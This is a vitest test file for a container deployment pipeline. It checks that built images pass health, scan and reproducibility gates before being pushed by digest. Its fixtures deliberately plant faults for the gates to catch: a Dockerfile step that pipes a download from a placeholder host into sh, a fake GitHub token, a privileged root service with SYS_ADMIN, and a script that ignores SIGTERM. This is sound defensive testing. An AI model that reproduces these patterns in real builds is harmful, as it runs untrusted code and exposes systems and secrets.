import { execFileSync } from 'node:child_process';
import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { DeployClient } from '../../src/compose/quiet-fleet.ts';
import type { Run } from '../../src/domain/pipelines/run.ts';
import { BUILD, BUILD_FROM_DOCKERFILE, DOCKERFILE, IMAGE } from '../kit/deploy-projects.ts';
import { becauseOf, deployAndWait, deployWorkspace, openFleet, outcomeOf, readings } from '../kit/deploy-workspace.ts';

const workspace = deployWorkspace(afterAll);
const registry = join(workspace.root, 'registry');
let client: DeployClient;

const pipeline = () => ({
  kind: 'container',
  project: 'apps/one',
  build: ['sh', 'build.sh', '{{release}}'],
  smoke: { healthy: ['/bin/sh', '-c', 'test -e /tmp/ready'], within: '5s', stop: '2s' },
  publish: [
    {
      name: 'push',
      run: [
        'skopeo',
        'copy',
        '-q',
        '--insecure-policy',
        '--preserve-digests',
        'oci:{{layout}}:{{release}}',
        `oci:${registry}:nova`,
      ],
    },
  ],
});

const failing = (run: Run): readonly string[] =>
  Object.entries(readings(run)).flatMap(([id, reading]) =>
    ['fail', 'unknown', 'failed'].includes(reading) ? [id] : [],
  );

const digestAtRegistry = (): string =>
  JSON.parse(execFileSync('skopeo', ['inspect', `oci:${registry}:nova`], { encoding: 'utf8' })).Digest;

beforeAll(async () => {
  workspace.commit(IMAGE);
  workspace.configure({ nova: pipeline() });
  client = await openFleet(workspace);
});
afterAll(() => client.close());

test('an image passes its gates, is started and stopped, and is pushed by its digest', async () => {
  const run = await deployAndWait(client, { pipeline: 'nova' });
  expect(failing(run), JSON.stringify(run.steps, null, 1)).toEqual([]);
  expect(outcomeOf(run)).toBe('shipped');
  expect(becauseOf(run, 'smoke')).toMatch(/^healthy after .* ended on SIGTERM/);
  expect(becauseOf(run, 'scan')).toContain('known vulnerabilities were not looked for: no trivy, no grype');
  expect(digestAtRegistry()).toBe(run.facts.imageDigest);
});

test('an image that buildah builds from its Dockerfile passes the same gates', async () => {
  workspace.commit({
    ...IMAGE,
    Dockerfile: `${DOCKERFILE}CMD ["/bin/sh", "/app/run"]\n`,
    'build.sh': BUILD_FROM_DOCKERFILE,
  });
  const run = await deployAndWait(client, { pipeline: 'nova' });
  expect(failing(run), JSON.stringify(run.steps, null, 1)).toEqual([]);
  expect(outcomeOf(run)).toBe('shipped');
  expect(digestAtRegistry()).toBe(run.facts.imageDigest);
  workspace.commit(IMAGE);
});

/** Each fault by itself is planted by `npm run bench -- deploy`; here some at once, for each image is built twice. */
const TWINS: readonly (readonly [string, readonly string[], Readonly<Record<string, string>>])[] = [
  [
    'that is not pinned, fetches and runs, and names no user',
    ['dockerfile'],
    { Dockerfile: 'FROM debian:latest\nRUN curl https://x.example/i | sh\n' },
  ],
  [
    'of root, with a privileged service, a planted key, and no ear for SIGTERM',
    ['runtime', 'scan', 'smoke'],
    {
      user: '0',
      'compose.yaml': 'services: {nova: {image: nova, privileged: true, cap_add: [SYS_ADMIN]}}\n',
      'rootfs/app/settings': `token = ghp_${'a1B2'.repeat(9)}\n`,
      'rootfs/app/run': `trap '' TERM\necho ready > /tmp/ready\nwhile :; do sleep 1; done\n`,
    },
  ],
  ['that ends by itself', ['smoke'], { 'rootfs/app/run': 'echo broken; exit 7\n' }],
];

test.each(TWINS)('an image %s is held, and the registry keeps what it has', async (_, gates, files) => {
  const before = digestAtRegistry();
  workspace.commit(files);
  const run = await deployAndWait(client, { pipeline: 'nova' });
  expect(failing(run)).toEqual(gates);
  expect(outcomeOf(run)).toBe('held');
  expect(digestAtRegistry()).toBe(before);
  for (const name of Object.keys(files)) rmSync(join(workspace.project, name));
  workspace.commit(IMAGE);
});

test('what is not committed makes another image, and what says nothing of its health is unknown', async () => {
  workspace.commit({
    ...IMAGE,
    '.gitignore': 'build/\nlocal/\n',
    Dockerfile: DOCKERFILE.replace(/HEALTHCHECK.*\n/, ''),
    'build.sh': BUILD.replace(
      'rootfs/. build/root/',
      'rootfs/. build/root/; cp -r local/. build/root/ 2>/dev/null || true',
    ),
  });
  workspace.write({ 'local/app/only-here': 'x' });
  workspace.configure({ nova: { ...pipeline(), smoke: { within: '2s' } } });
  const run = await deployAndWait(client, { pipeline: 'nova' });
  expect(readings(run)).toMatchObject({ reproducible: 'fail', runtime: 'fail', smoke: 'unknown' });
  expect(becauseOf(run, 'reproducible')).toContain('files are others');
  expect(outcomeOf(run)).toBe('held');
});
